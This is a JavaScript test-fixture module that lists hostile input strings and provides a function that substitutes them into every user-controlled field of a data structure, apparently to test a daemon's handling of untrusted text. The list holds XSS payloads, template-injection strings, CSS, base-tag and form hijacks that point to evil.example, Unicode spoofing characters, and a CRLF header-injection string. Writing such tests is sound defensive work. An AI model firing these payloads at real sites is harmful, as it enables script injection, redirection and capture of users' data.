// What strangers may write anywhere.
export const CORPUS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "\"><svg/onload=window.pwned=1>",
  "'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<a href=\"javascript:window.pwned=1\">click</a>",
  "javascript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  "</textarea></title></style></script><script>window.pwned=1</script>",
  "<style>@import url(//evil.example/x.css);*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><input name=csrf></form>",
  "<details open ontoggle=window.pwned=1>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}",
  "\u202egnp.exe\u202c \u2066hidden\u2069 a\u200bb\ufeffc \u{e0041}",
  "Z\u0361\u0362\u0363\u0364\u0365\u0366\u0367\u0368\u0369\u036aalgo",
  "\u0000\u0008\u001b[31m\r\nSet-Cookie: a=b",
  "__proto__",
];

// What the daemon itself writes: closed sets, ids, times, numbers.
const OURS = new Set(["id", "team", "state", "kind", "kinds", "source", "behaviour", "at", "until", "since", "from", "reset", "last_poll",
  "created_at", "arrived_at", "changed_at", "not_before", "not_after", "posted_at", "posted_id", "post_id", "started_at", "recorded_at",
  "requested_at", "proven_at", "outcome", "name_level", "decision", "basis", "code", "content_hash", "hash", "timezone", "roles", "worked",
  "price_usd", "spent_usd", "cost_usd", "account", "user", "as", "draft", "reply_settings", "how", "next", "due", "asked_at",
  "planned_at"]);

// The same world, with `text` in every place that a person or X fills.
export function poisoned(value, text, key = "") {
  if (OURS.has(key)) return value;
  if (typeof value === "string") return text;
  if (Array.isArray(value)) return value.map((each) => poisoned(each, text, key));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, poisoned(each, text, name)]));
}
